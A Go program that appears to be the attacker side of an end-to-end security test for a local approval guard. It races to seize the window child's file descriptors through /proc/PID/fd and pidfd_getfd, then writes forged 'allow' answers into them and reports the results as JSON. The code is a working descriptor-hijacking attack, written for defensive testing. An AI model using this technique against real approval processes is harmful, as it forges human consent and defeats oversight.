package main

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"net"
	"net/http"
	"os"
	"strconv"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

// The attacker of e2e/attack_window_test.go: a program of the host's own
// user that wants its own guarded read approved. The guard's questions
// reach the window child the host starts on a private channel; this
// program asks the host to start that child and, from the moment it
// exists, tries every way a process of the same user has into another
// one's descriptors: open(/proc/PID/fd/N), which works on a pipe of a
// dumpable process, and pidfd_getfd(2). Whatever it gets hold of, it
// writes "allow" answers into, for the first question ids, until the
// time is up. It prints a JSON report.

// raceReport is what the attacker saw.
type raceReport struct {
	HostPID   int            `json:"host_pid"`
	Children  []int          `json:"children"`
	Opened    []string       `json:"opened"`     // "PID/FD via proc (what it is)" or "PID/FD via pidfd"
	Errors    map[string]int `json:"errors"`     // "fdN via how: ERRNO" -> count
	Written   int            `json:"written"`    // answer lines written into what it held
	WindowErr string         `json:"window_err"` // the POST /v1/window, if it failed
}

// answers is what the window would send for the first questions.
var answers = func() []byte {
	var b strings.Builder
	for id := 1; id <= 4; id++ {
		fmt.Fprintf(&b, "{\"id\":%d,\"allow\":true}\n", id)
	}
	return []byte(b.String())
}()

func windowRace(sock, duration string) error {
	d, err := time.ParseDuration(duration)
	if err != nil {
		return err
	}
	host, err := hostPID(sock)
	if err != nil {
		return err
	}
	rep := raceReport{HostPID: host, Errors: map[string]int{}}
	asked := make(chan error, 1)
	go func() { asked <- openWindow(sock) }()

	held := map[string]*os.File{}
	seen := map[int]bool{}
	deadline := time.Now().Add(d)
	for time.Now().Before(deadline) {
		for _, child := range childrenOf(host) {
			if !seen[child] {
				seen[child] = true
				rep.Children = append(rep.Children, child)
			}
			grab(child, held, &rep)
		}
		for key, f := range held {
			if fd, _ := strconv.Atoi(key[strings.IndexByte(key, '/')+1:]); fd < 3 {
				continue // stdin, stdout, stderr: not the channel
			}
			if _, err := f.Write(answers); err == nil {
				rep.Written += len(answers)
			}
		}
		select {
		case err := <-asked:
			if err != nil {
				rep.WindowErr = err.Error()
			}
		default:
		}
	}
	return json.NewEncoder(os.Stdout).Encode(rep)
}

// grab tries to get hold of each descriptor of pid it does not hold yet.
func grab(pid int, held map[string]*os.File, rep *raceReport) {
	pidfd, pidfdErr := unix.PidfdOpen(pid, 0)
	if pidfdErr == nil {
		defer unix.Close(pidfd)
	}
	for fd := 0; fd < 16; fd++ {
		key := fmt.Sprintf("%d/%d", pid, fd)
		if held[key] != nil {
			continue
		}
		link := fmt.Sprintf("/proc/%d/fd/%d", pid, fd)
		f, err := os.OpenFile(link, os.O_WRONLY|unix.O_NONBLOCK, 0)
		if err == nil {
			held[key] = f
			target, _ := os.Readlink(link)
			rep.Opened = append(rep.Opened, key+" via proc ("+target+")")
			continue
		}
		rep.Errors[fmt.Sprintf("fd%d via proc: %s", fd, errnoName(err))]++
		if fd < 3 {
			continue
		}
		if pidfdErr != nil {
			rep.Errors[fmt.Sprintf("fd%d via pidfd_open: %s", fd, errnoName(pidfdErr))]++
			continue
		}
		nfd, err := unix.PidfdGetfd(pidfd, fd, 0)
		if err != nil {
			rep.Errors[fmt.Sprintf("fd%d via pidfd_getfd: %s", fd, errnoName(err))]++
			continue
		}
		held[key] = os.NewFile(uintptr(nfd), key)
		rep.Opened = append(rep.Opened, key+" via pidfd")
	}
}

func errnoName(err error) string {
	var errno unix.Errno
	if errors.As(err, &errno) {
		return unix.ErrnoName(errno)
	}
	return err.Error()
}

// hostPID is the pid of the process serving sock (SO_PEERCRED).
func hostPID(sock string) (int, error) {
	c, err := net.Dial("unix", sock)
	if err != nil {
		return 0, err
	}
	defer c.Close()
	raw, err := c.(*net.UnixConn).SyscallConn()
	if err != nil {
		return 0, err
	}
	var cred *unix.Ucred
	var credErr error
	if err := raw.Control(func(fd uintptr) {
		cred, credErr = unix.GetsockoptUcred(int(fd), unix.SOL_SOCKET, unix.SO_PEERCRED)
	}); err != nil {
		return 0, err
	}
	if credErr != nil {
		return 0, credErr
	}
	return int(cred.Pid), nil
}

// openWindow is POST /v1/window, what the tray's "Open window" does.
func openWindow(sock string) error {
	hc := &http.Client{Timeout: 10 * time.Second, Transport: &http.Transport{
		DialContext: func(ctx context.Context, _, _ string) (net.Conn, error) {
			var d net.Dialer
			return d.DialContext(ctx, "unix", sock)
		},
	}}
	resp, err := hc.Post("http://x/v1/window", "application/json", nil)
	if err != nil {
		return err
	}
	resp.Body.Close()
	if resp.StatusCode/100 != 2 {
		return fmt.Errorf("POST /v1/window: %s", resp.Status)
	}
	return nil
}

// childrenOf lists the pids whose parent is pid (/proc/*/stat is
// readable for every process).
func childrenOf(pid int) []int {
	var out []int
	entries, _ := os.ReadDir("/proc")
	for _, e := range entries {
		child, err := strconv.Atoi(e.Name())
		if err != nil {
			continue
		}
		data, err := os.ReadFile("/proc/" + e.Name() + "/stat")
		if err != nil {
			continue
		}
		s := string(data)
		i := strings.LastIndexByte(s, ')')
		if i < 0 || i+2 > len(s) {
			continue
		}
		rest := strings.Fields(s[i+2:])
		if len(rest) > 1 {
			if ppid, _ := strconv.Atoi(rest[1]); ppid == pid {
				out = append(out, child)
			}
		}
	}
	return out
}
